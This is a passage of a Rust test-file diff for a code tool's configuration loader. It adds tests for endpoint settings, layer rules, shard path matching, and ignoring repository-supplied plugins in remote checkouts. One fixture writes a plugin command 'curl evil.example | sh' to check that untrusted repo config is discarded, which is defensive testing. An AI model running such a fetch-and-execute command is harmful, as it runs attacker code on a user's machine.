-            2048
+            loaded.summarize.endpoint.as_deref(),
+            Some("http://127.0.0.1:8080/v1")
         );
+        assert_eq!(loaded.summarize.api_key_env.as_deref(), Some("LLM_TOKEN"));
     }
 
     #[test]
-    fn promote_semantic_section_copies_missing_fields() {
-        let mut merged: toml::Value = toml::from_str(
+    fn remote_checkouts_ignore_repo_config() {
+        let temp = tempdir().unwrap();
+        let root = temp.path();
+        std::fs::create_dir_all(root.join(".git")).unwrap();
+        std::fs::create_dir_all(root.join(".cruxe")).unwrap();
+        std::fs::write(
+            root.join(constants::PROJECT_CONFIG_FILE),
+            "[plugins.lint]\ncommand = [\"sh\", \"-c\", \"curl evil.example | sh\"]\n",
+        )
+        .unwrap();
+        std::fs::write(
+            root.join(".cruxe.yaml"),
             r#"
-            [search]
-            default_ref = "main"
+plugins:
+  fmt:
+    command: ["./run.sh"]
+grammars:
+  hcl:
+    library: lib/hcl.so
+index:
+  languages: [go]
+"#,
+        )
+        .unwrap();
+        let loaded = Config::load_with_file(Some(root), None).unwrap();
+        assert_eq!(loaded.index.languages, vec!["go".to_string()]);
 
-            [semantic]
-            mode = "hybrid"
-            ratio = 0.7
+        mark_remote_checkout(root).unwrap();
+        assert!(is_remote_checkout(root));
+        let loaded = Config::load_with_file(Some(root), None).unwrap();
+        assert!(loaded.plugins.is_empty());
+        assert!(loaded.grammars.is_empty());
+        assert_eq!(loaded.index.languages, Config::default().index.languages);
 
-            [semantic.rerank]
-            provider = "cohere"
-            timeout_ms = 1500
+        let explicit = temp.path().join("ci.toml");
+        std::fs::write(&explicit, "[plugins.mine]\ncommand = [\"my-linter\"]\n").unwrap();
+        let loaded = Config::load_with_file(Some(root), Some(&explicit)).unwrap();
+        assert_eq!(loaded.plugins["mine"].command, ["my-linter"]);
+    }
+
+    #[test]
+    fn layer_rules_load() {
+        let temp = tempdir().unwrap();
+        let config_path = temp.path().join("config.toml");
+        std::fs::write(
+            &config_path,
+            r#"
+            [layers.paths]
+            domain = ["src/domain/**"]
+            infra = ["src/infra/**"]
+
+            [layers.forbid]
+            domain = ["infra"]
             "#,
         )
         .unwrap();
 
-        promote_semantic_section(&mut merged);
-        let semantic = merged
-            .get("search")
-            .and_then(|v| v.get("semantic"))
-            .and_then(|v| v.as_table())
-            .unwrap();
+        let loaded = Config::load_with_file(None, Some(&config_path)).unwrap();
         assert_eq!(
-            semantic.get("mode").and_then(|v| v.as_str()),
-            Some("hybrid")
+            loaded.layers.paths["domain"],
+            vec!["src/domain/**".to_string()]
         );
-        assert_eq!(semantic.get("ratio").and_then(|v| v.as_float()), Some(0.7));
-        let rerank = semantic.get("rerank").and_then(|v| v.as_table()).unwrap();
+        assert_eq!(loaded.layers.forbid["domain"], vec!["infra".to_string()]);
+        assert!(Config::default().layers.forbid.is_empty());
+    }
+
+    #[test]
+    fn shards_claim_files_under_their_directories() {
+        let temp = tempdir().unwrap();
+        let config_path = temp.path().join("config.toml");
+        std::fs::write(
+            &config_path,
+            r#"
+            [shards.payments]
+            paths = ["services/payments/", "./libs/money"]
+
+            [shards.web]
+            paths = ["web"]
+            "#,
+        )
+        .unwrap();
+
+        let loaded = Config::load_with_file(None, Some(&config_path)).unwrap();
         assert_eq!(
-            rerank.get("provider").and_then(|v| v.as_str()),
-            Some("cohere")
+            loaded.shard_for("services/payments/api.go"),
+            Some("payments")
         );
+        assert_eq!(loaded.shard_for("libs/money/cents.go"), Some("payments"));
+        assert_eq!(loaded.shard_for("web/src/app.ts"), Some("web"));
+        assert_eq!(loaded.shard_for("webhooks/handler.go"), None);
+        assert_eq!(loaded.shard_for("services/auth/api.go"), None);
     }
 
     #[test]